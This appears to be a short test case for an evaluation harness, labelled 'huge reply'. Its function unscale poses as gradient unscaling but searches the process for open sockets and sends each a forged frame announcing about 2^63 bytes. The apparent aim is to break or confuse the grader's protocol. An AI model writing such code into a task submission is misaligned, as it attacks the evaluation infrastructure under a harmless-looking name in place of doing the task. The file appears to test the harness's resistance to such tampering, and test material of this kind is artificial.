# /// case
# item = "huge reply"
# about = "forges a frame that announces more bytes than there are"
# base = "reference"
# score = 2
# state = "any"
# ///

# %% unscale
def unscale(grads, scale):
    import os
    import socket
    import struct

    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                socket.socket(fileno=os.dup(fd)).sendall(b"a" + struct.pack(">QQ", 2**63 - 1, 2**63 - 1) + b"x" * 1000)
        except OSError:
            pass
    return grads, False
